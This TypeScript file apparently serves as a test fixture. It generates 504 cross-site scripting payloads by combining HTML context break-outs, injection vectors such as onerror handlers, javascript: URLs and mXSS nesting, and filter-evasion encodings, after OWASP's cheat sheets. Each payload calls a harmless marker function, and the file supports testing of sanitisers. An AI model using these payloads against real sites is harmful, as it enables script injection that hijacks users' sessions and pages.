/**
 * Texts that would run a script, or put an element of theirs on the page, where something took them for more than text: contexts to break
 * out of × vectors × ways of writing them. Each calls `xss` with its number.
 * After the OWASP Cross Site Scripting Prevention and Filter Evasion cheat sheets, https://cheatsheetseries.owasp.org.
 */

/** What ends whatever a text stands in, before the vector. */
const CONTEXTS = ['', '">', "'>", '</script>', '</title>', '</textarea>', '</style>', '-->', ']]>', '`}', '\\"></a>', '</svg>'] as const;

const VECTORS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<a href="javascript:${call}">go</a>`,
  (call) => `[go](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<style>*{background:url("javascript:${call}")}</style>`,
  (call) => `<math><mtext><mglyph><style><img src=x onerror=${call}></style></mglyph></mtext></math>`,
  (call) => `\${${call}}`,
];

const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<script', '<ScRiPt').replaceAll('onerror', 'oNeRrOr').replaceAll('javascript:', 'jav\tascript:'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
];

/** 504 of them, always the same. */
export const XSS_PAYLOADS: readonly string[] = CONTEXTS.flatMap((context) =>
  VECTORS.flatMap((vector) => WRITINGS.map((write) => ({ context, vector, write }))),
).map(({ context, vector, write }, number) => context + write(vector(`xss(${number})`)));
